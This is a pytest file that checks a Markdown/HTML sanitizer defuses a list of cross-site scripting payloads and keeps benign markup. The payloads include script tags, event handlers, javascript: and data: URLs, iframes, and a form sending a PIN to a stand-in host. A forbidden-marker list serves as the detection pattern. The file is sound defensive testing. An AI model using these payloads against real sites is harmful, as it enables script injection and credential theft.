"""The reader's sanitizer: hostile HTML never reaches the view; good markup does."""

import pytest

from trainer.content.render import render_markdown, sanitize_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    '<img src="http://evil.example/track.png">',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object>',
    '<embed src="evil.swf">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    "<style>body{background:url(http://evil.example/x)}</style>",
    '<form action="https://evil.example"><input name="pin"><button>go</button></form>',
    '<body onload="alert(1)">x</body>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<base href="http://evil.example/">',
    '<math><mtext><script>alert(1)</script></mtext></math>',
    '<a href="  javascript:alert(1)">space-padded</a>',
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    '[md link](javascript:alert(1))',
    '![remote image](https://evil.example/pixel.png)',
]

FORBIDDEN = ["<script", "onerror", "onload", "ontoggle", "javascript:", "vbscript:", "data:",
             "<iframe", "<object", "<embed", "<img", "<svg", "<style", "style=", "expression(",
             "<form", "<input", "<meta", "<link", "<base", "evil.example", "<video", "<source"]


@pytest.mark.parametrize("snippet", HOSTILE)
def test_hostile_snippet_is_defused(snippet):
    html = render_markdown(f"Before\n\n{snippet}\n\nAfter")
    lowered = html.lower()
    for marker in FORBIDDEN:
        assert marker not in lowered, (snippet, html)
    assert "Before" in html and "After" in html


def test_corpus_is_big_enough():
    assert len(HOSTILE) >= 15


def test_good_markup_is_kept():
    html = render_markdown(
        "# Title\n\n## Section\n\nSome *emphasis* and **strong** text.\n\n"
        "- one\n- two\n\n1. first\n2. second\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "[SAMHSA](https://www.samhsa.gov) and [plain](http://example.org) and [mail](mailto:a@b.org)\n\n"
        "> a quote\n"
    )
    for part in ("<h1>Title</h1>", "<h2>Section</h2>", "<em>emphasis</em>", "<strong>strong</strong>",
                 "<ul>", "<ol>", "<li>one</li>", "<table>", "<th>a</th>", "<td>2</td>", "<blockquote>",
                 'href="https://www.samhsa.gov"', 'href="http://example.org"', 'href="mailto:a@b.org"'):
        assert part in html, (part, html)


def test_sanitize_keeps_text_of_dropped_wrappers():
    assert "hello" in sanitize_html("<font color=red>hello</font>")
